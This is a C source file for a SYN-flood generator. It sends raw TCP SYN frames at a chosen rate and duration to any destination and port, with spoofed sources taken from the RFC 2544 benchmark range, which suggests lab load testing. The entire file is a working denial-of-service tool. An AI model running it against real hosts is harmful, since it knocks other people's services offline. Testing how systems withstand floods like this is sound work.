/*
 * Sends TCP SYNs from changing addresses at a fixed rate, for a fixed time, and reads nothing.
 *
 * usage: syn_flood INTERFACE MAC DESTINATION PORT PACKETS_PER_SECOND SECONDS
 *
 * Frames go straight to the interface (packet(7)), many in one call, so that sending costs little.
 * Sources are of 198.18.0.0/15, which RFC 2544 sets aside for benchmarks. Prints what was sent.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#include "pace.h"

enum { BATCH = 32 };

struct frame {
    struct ether_header ethernet;
    struct iphdr ip;
    struct tcphdr tcp;
} __attribute__((packed));

static struct frame frames[BATCH];

/* xorshift64: spreads well enough over addresses and ports. */
static uint64_t random_bits(void) {
    static uint64_t state = 0x9e3779b97f4a7c15u;
    state ^= state << 13;
    state ^= state >> 7;
    state ^= state << 17;
    return state;
}

/* RFC 1071. The length is even. */
static uint32_t sum_words(const void *data, size_t length, uint32_t sum) {
    const uint8_t *bytes = data;
    for (size_t i = 0; i < length; i += 2) sum += (uint32_t)bytes[i] << 8 | bytes[i + 1];
    return sum;
}

static uint16_t fold(uint32_t sum) {
    while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
    return htons((uint16_t)~sum);
}

static void set_up(struct frame *frame, const uint8_t mac[6], struct in_addr destination, int port) {
    memcpy(frame->ethernet.ether_dhost, mac, 6);
    memcpy(frame->ethernet.ether_shost, mac, 6);
    frame->ethernet.ether_type = htons(ETHERTYPE_IP);
    frame->ip.version = 4;
    frame->ip.ihl = 5;
    frame->ip.tot_len = htons(sizeof frame->ip + sizeof frame->tcp);
    frame->ip.ttl = 64;
    frame->ip.protocol = IPPROTO_TCP;
    frame->ip.daddr = destination.s_addr;
    frame->tcp.dest = htons((uint16_t)port);
    frame->tcp.doff = 5;
    frame->tcp.syn = 1;
    frame->tcp.window = htons(64240);
}

/* A new source, and the checksums that follow from it. */
static void renew(struct frame *frame) {
    uint64_t random = random_bits();
    frame->ip.saddr = htonl(0xc6120000u | (uint32_t)(random & 0x1ffff));
    frame->ip.check = 0;
    frame->ip.check = fold(sum_words(&frame->ip, sizeof frame->ip, 0));
    frame->tcp.source = htons((uint16_t)(1024 + (random >> 20) % 60000));
    frame->tcp.seq = (uint32_t)(random >> 32);
    frame->tcp.check = 0;
    uint32_t sum = sum_words(&frame->ip.saddr, 8, IPPROTO_TCP + sizeof frame->tcp);
    frame->tcp.check = fold(sum_words(&frame->tcp, sizeof frame->tcp, sum));
}

int main(int argc, char **argv) {
    if (argc != 7) {
        fprintf(stderr, "usage: syn_flood INTERFACE MAC DESTINATION PORT PACKETS_PER_SECOND SECONDS\n");
        return 2;
    }
    uint8_t mac[6];
    struct in_addr destination;
    double rate = atof(argv[5]), seconds = atof(argv[6]);
    if (sscanf(argv[2], "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", mac, mac + 1, mac + 2, mac + 3, mac + 4,
               mac + 5) != 6 || inet_pton(AF_INET, argv[3], &destination) != 1 || rate < 1) {
        fprintf(stderr, "syn_flood: an argument is not what it should be\n");
        return 2;
    }
    /* Protocol 0: nothing is received. */
    int fd = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, 0);
    if (fd < 0) fail("socket");
    struct sockaddr_ll address = {.sll_family = AF_PACKET, .sll_ifindex = (int)if_nametoindex(argv[1])};
    if (bind(fd, (struct sockaddr *)&address, sizeof address) < 0) fail("bind");
    struct iovec vectors[BATCH];
    struct mmsghdr messages[BATCH] = {0};
    for (int i = 0; i < BATCH; i++) {
        set_up(&frames[i], mac, destination, atoi(argv[4]));
        vectors[i] = (struct iovec){.iov_base = &frames[i], .iov_len = sizeof frames[i]};
        messages[i].msg_hdr.msg_iov = &vectors[i];
        messages[i].msg_hdr.msg_iovlen = 1;
    }
    uint64_t begin = now_ns(), end = begin + (uint64_t)(seconds * 1e9), sent = 0;
    while (now_ns() < end) {
        /* What is behind time is sent at once: the rate holds over the whole, not in each moment. */
        wait_until(begin + (uint64_t)((double)sent * 1e9 / rate));
        for (int i = 0; i < BATCH; i++) renew(&frames[i]);
        int count = sendmmsg(fd, messages, BATCH, 0);
        if (count < 0 && errno != ENOBUFS && errno != EINTR) fail("sendmmsg");
        if (count > 0) sent += (uint64_t)count;
    }
    printf("{\"sent\": %llu, \"seconds\": %.3f}\n", (unsigned long long)sent,
           (double)(now_ns() - begin) / 1e9);
    return 0;
}
